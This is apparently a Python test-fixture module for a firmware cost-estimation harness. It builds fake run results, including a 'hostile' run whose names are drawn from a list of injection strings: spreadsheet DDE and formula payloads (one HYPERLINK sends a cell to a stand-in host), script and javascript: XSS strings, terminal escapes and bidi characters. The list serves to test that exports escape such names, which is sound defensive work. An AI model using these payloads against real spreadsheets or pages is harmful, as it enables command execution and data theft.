"""Runs to export: with estimates of each tier, with what was not measured, with names that nobody should trust."""

from __future__ import annotations

from typing import Any

import msgspec
import result_maker

from harness import isa
from harness.calltree.result import CallNode, CallsPart, LayerCalls, StackFrame, StackPath
from harness.cost.features import Features
from harness.result import CalibrationPart, EstimatePart, Function, Interval, LayerEstimate, Result

HOSTILE = (
    '=HYPERLINK("http://x.test?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3;=1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "conv;=cmd|' /C calc'!A0",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "| a | b |\n| --- | --- |",
    "`code` ``more`` ` <b>",
    "@everyone #1 [x](javascript:alert(1)) ![y](http://x.test/y.png) https://x.test www.x.test",
    "two\nlines\x1b[31m\x00",
    "\u202ertl \u2066\ufeff \N{CJK UNIFIED IDEOGRAPH-4E2D}\N{PILE OF POO}",
    "$x_1^{2}$ \\frac{1}",
    "",
    "   ",
    "0",
    "__proto__",
    "a;b c;d 12",
    "W" * 3000,
)
CARRIED = "compiler: gcc 8, not gcc 12"


def hostile() -> Result:
    """A run in which everything that a name can be is one, in the network, the firmware, the build and the verdict."""
    whole = 1000 * len(HOSTILE)
    layers = tuple(
        result_maker.layer(
            index, name, 1000, whole, macs=index, name=name, functions={name: 600, f"{name}'": 400}, output_exact=False
        )
        for index, name in enumerate(HOSTILE)
    )
    functions = tuple(Function(name=name, instructions=1000, share=0.047) for name in HOSTILE)
    made = result_maker.result(layers, functions=functions, estimate=estimate(len(layers), tier=";".join(HOSTILE)))
    text = "".join(HOSTILE)
    classes = {name: sum((item.classes or {})[name] for item in layers) for name in isa.CLASSES}
    classes["alu"] += made.counts.overhead
    return msgspec.structs.replace(
        made,
        counts=msgspec.structs.replace(made.counts, classes=classes),
        verdict=msgspec.structs.replace(made.verdict, passed=False, reasons=HOSTILE),
        model=msgspec.structs.replace(made.model, file=text),
        machine=msgspec.structs.replace(made.machine, name=text),
        identity=msgspec.structs.replace(made.identity, compiler=text, tflm=text),
        check=msgspec.structs.replace(made.check, input=text),
        calls=calls(HOSTILE, [1000] * len(HOSTILE), made.counts.overhead),
        kernels=text,
        platform_title=text,
    )


def estimate(layers: int = 2, **changes: Any) -> EstimatePart:
    """An uncalibrated estimate: 100,000 cycles a layer, 1,000 around them, at 80 MHz, within -20 and +60 %."""
    cycles = 100_000 * layers + 1_000
    made = EstimatePart(
        model="made/1",
        tier="uncalibrated",
        clock_hz=80_000_000,
        cycles=Interval(value=float(cycles), low=0.8 * cycles, high=1.6 * cycles),
        latency_ms=Interval(value=cycles / 80_000, low=0.8 * cycles / 80_000, high=1.6 * cycles / 80_000),
        coverage=0.9,
        basis="made up",
        notes=(),
        layers=tuple(_part(index, 100_000) for index in range(layers)),
        overhead=_part(None, 1_000),
    )
    return msgspec.structs.replace(made, **changes)


def _part(index: int | None, cycles: int) -> LayerEstimate:
    features = Features(instructions=900, core_cycles=1.0, taken=1, unaligned=0, code_bytes=100, flash=None)
    return LayerEstimate(index=index, cycles=cycles, latency_ms=cycles / 80_000, features=features)


def calibrated(*carried: str, bounds: bool = True) -> Result:
    """A run whose estimate is by a calibration, of another build where ``carried`` says in what."""
    part = CalibrationPart(file="c.json", family="f", sha256="0" * 64, cost_model="made/1", carried=carried)
    made = estimate(tier="calibrated on stm32l496zg, gcc 8, and much more", calibration=part)
    if not bounds:
        made = msgspec.structs.replace(made, cycles=Interval(value=201_000.0, low=None, high=None),
                                       latency_ms=Interval(value=2.5125, low=None, high=None))  # fmt: skip
    return result_maker.result(estimate=made)


def counted() -> Result:
    """A run of an emulator that tells neither functions nor classes apart."""
    made = result_maker.result()
    return msgspec.structs.replace(
        made,
        layers=tuple(msgspec.structs.replace(item, classes=None, functions=None) for item in made.layers),
        functions=None,
        counts=msgspec.structs.replace(made.counts, classes=None),
    )


def calls(names: tuple[str, ...], instructions: list[int], overhead: int) -> CallsPart:
    """Calls in layers of so many instructions: Invoke calls Eval, that the named function; what is small is together.

    The same Eval is called by itself once more, as recursion is.
    """
    functions = ("Invoke", "Eval", *names)

    def tree(index: int | None, total: int, function: int) -> LayerCalls:
        shares = (10, 20, 30, total - 65, 5)
        below = [sum(shares[number:]) for number in range(4)]
        made = [
            CallNode(function=number, parent=parent, calls=calls, inclusive=inclusive, exclusive=exclusive)
            for number, parent, calls, inclusive, exclusive in (
                (0, None, 0, below[0], 10), (1, 0, 1, below[1], 20), (1, 1, 2, below[2], 30),
                (function, 2, 7, total - 65, total - 65), (None, 2, 3, 5, 5),
            )
        ]  # fmt: skip
        return LayerCalls(index=index, nodes=tuple(made), stack=200 + total)

    layers = tuple(tree(index, total, 2 + index % len(names)) for index, total in enumerate(instructions))
    around = CallNode(function=0, parent=None, calls=0, inclusive=overhead, exclusive=overhead)
    frames = tuple(StackFrame(function=name, bytes=8, reason=None) for name in names[:-1])
    unknown = StackFrame(function=names[-1], bytes=None, reason="its code does not tell")
    return CallsPart(
        functions=functions,
        layers=layers,
        overhead=LayerCalls(index=None, nodes=(around,), stack=None),
        deepest=StackPath(frames=(*frames, unknown), bytes=8 * len(frames), measured=680, segment="layer 0", note=None),
        counter="made",
    )
